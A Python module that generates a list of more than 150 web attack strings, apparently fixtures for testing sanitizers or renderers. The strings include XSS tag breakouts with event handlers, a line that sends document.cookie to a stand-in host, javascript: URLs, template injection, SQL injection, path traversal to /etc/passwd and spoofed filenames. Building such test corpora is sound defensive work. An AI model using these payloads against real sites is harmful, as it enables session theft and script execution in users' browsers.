"""Texts that try to run, to call out, or to look like something else, built from parts."""

from __future__ import annotations

from itertools import product

RUN = "window.pwned=1;alert(1)"
_ACTIONS = (RUN, "fetch('http://evil.example/'+document.cookie)")
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "--><!--", "]]>", "</svg>", '\\"-->')
_ELEMENTS = (
    "<script>{}</script>",
    '<img src=x onerror="{}">',
    '<svg onload="{}">',
    '<body onload="{}">',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<details open ontoggle="{}">x</details>',
    '<input autofocus onfocus="{}">',
)
_SINGLE = (
    "javascript:{}",
    "[click](javascript:{})",
    '<a href="javascript:{}">x</a>',
    '<form action="javascript:{}"><button>x</button></form>',
    '<math><mtext></p><style><img src=x onerror="{}">',
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    '<div hx-get="http://evil.example/" hx-trigger="load">x</div><!--{}-->',
    '<div data-hx-on:load="{}">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:{}">',
)
_PLAIN = (
    '<a href="http://evil.example" target=_blank>click</a>',
    "<object data=http://evil.example/x></object>",
    "<embed src=http://evil.example/x>",
    "<video poster=http://evil.example/x src=http://evil.example/y autoplay></video>",
    "<p style=background:url(http://evil.example/x)>x</p>",
    "![x](http://evil.example/a.png)",
    '<img src="http://evil.example/a.png">',
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<base href=http://evil.example/>",
    "<style>@import url(http://evil.example/a.css);body{display:none}</style>",
    "\u202egpj.exe",
    "zero\u200bwidth",
    "\x00\x1b[31mred",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a" * 20_000,
    "\U0001f469\u200d\U0001f4bb" * 50,
)
PAYLOADS = [
    *(before + element.format(RUN) for before, element in product(_BREAKS, _ELEMENTS)),
    *(before + element.format(_ACTIONS[1]) for before, element in product(_BREAKS[:6], _ELEMENTS)),
    *(text.format(action) for text, action in product(_SINGLE, _ACTIONS)),
    *_PLAIN,
]
"""More than 150, each different."""
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 150
